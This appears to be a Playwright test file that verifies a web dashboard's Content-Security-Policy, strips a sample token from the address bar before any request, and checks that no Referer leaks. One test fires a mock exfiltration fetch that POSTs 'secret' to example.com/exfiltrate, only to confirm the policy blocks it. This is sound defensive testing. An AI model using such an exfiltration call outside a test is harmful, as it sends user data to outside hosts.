/** The Content-Security-Policy of the built app is really enforced, and the demo still works under it. */
import { expect, test } from './fixtures';

test('the built page carries the policy: no inline script, no connection to an origin it does not call', async ({
  page,
}) => {
  await page.goto('/');
  await expect(page.getByRole('heading', { name: 'Dashboards', level: 1 })).toBeVisible();
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).toContain("script-src 'self';");
  expect(policy).toContain("style-src 'self' ;");
  expect(policy).not.toContain('unsafe');
  expect(policy).not.toContain('%VITE');
  // No development allowance ships: nothing over plain http, no loopback (a deployment names its own endpoint).
  expect(policy).not.toMatch(/http:\/\/|127\.0\.0\.1|localhost/);

  const outcome = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
    );
    const script = document.createElement('script');
    script.textContent = 'window.__inlineRan = true;';
    document.body.append(script);
    let fetched = 'allowed';
    try {
      await fetch('https://example.com/exfiltrate', { method: 'POST', body: 'secret' });
    } catch {
      fetched = 'blocked';
    }
    await new Promise((resolve) => setTimeout(resolve, 100));
    return { inlineRan: (window as { __inlineRan?: boolean }).__inlineRan === true, fetched, violations };
  });
  expect(outcome.inlineRan).toBe(false);
  expect(outcome.fetched).toBe('blocked');
  expect(outcome.violations).toEqual(
    expect.arrayContaining(['script-src-elem inline', 'connect-src https://example.com/exfiltrate']),
  );
});

test('a credential-shaped address leaves the location bar before any request, and no request carries a Referer', async ({
  page,
  problems,
}) => {
  const KEY = 'AKIAIOSFODNN7EXAMPLE';
  const seen: Array<{ url: string; referer: string | undefined }> = [];
  page.on('request', async (request) => {
    const headers = await request.allHeaders();
    seen.push({ url: request.url(), referer: headers.referer });
  });
  // When the app asks for its config (its first request), the address must already be clean.
  let addressAtFirstRequest: string | undefined;
  await page.route('**/config.json', async (route) => {
    addressAtFirstRequest ??= await page.evaluate(() => window.location.href);
    await route.continue();
  });
  await page.goto(`/d/checkout?range=now-3h&token=${KEY}&tz=utc`);
  await expect(page.getByRole('heading', { level: 1 })).toContainText('Checkout');
  await expect(
    page.getByRole('article', { name: 'Orders per minute', exact: true }).getByTestId('kpi-value'),
  ).toHaveText(/\d/);
  await expect(page.getByText('Some settings in the address were ignored')).toBeVisible();

  expect(addressAtFirstRequest).toBeDefined();
  expect(addressAtFirstRequest).not.toContain(KEY);
  expect(page.url()).not.toContain(KEY);
  expect(page.url()).toContain('range=now-3h');
  // about:blank and this page: the address was replaced in place, not pushed after the original.
  expect(await page.evaluate(() => window.history.length)).toBe(2);
  const kinds = new Set(seen.map((r) => new URL(r.url).pathname.split('.').pop()));
  expect([...kinds]).toEqual(expect.arrayContaining(['js', 'css', 'json', 'yaml']));
  expect(seen.filter((r) => r.referer !== undefined && r.referer !== '')).toEqual([]);
  expect(problems.messages).toEqual([]);
});

test('the app itself never tries eval: no CSP violation on any screen', async ({ page, problems }) => {
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as { __violations?: string[] }).__violations = seen;
    document.addEventListener('securitypolicyviolation', (e) =>
      seen.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`),
    );
  });
  const violations = async (): Promise<string[]> =>
    page.evaluate(() => (window as { __violations?: string[] }).__violations ?? []);
  const kpiValue = page.getByTestId('kpi-value').first();
  for (const path of [
    '/',
    '/d/checkout',
    '/d/checkout/k/payment-success-rate',
    '/wall/platform',
    '/status',
  ]) {
    await page.goto(path);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    if (path !== '/' && path !== '/status') await expect(kpiValue).toHaveText(/\d/);
    expect(await violations(), path).toEqual([]);
  }
  expect(problems.messages).toEqual([]);
});
